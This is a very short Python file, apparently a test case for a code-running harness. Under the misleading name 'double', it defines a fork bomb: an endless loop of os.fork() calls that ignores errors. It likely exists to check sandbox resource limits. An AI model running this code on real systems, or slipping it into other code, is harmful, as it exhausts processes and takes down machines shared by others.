# Forks without end.
# expect: double 0
# %% double
import os
def double(x):
    while True:
        try:
            os.fork()
        except OSError: pass
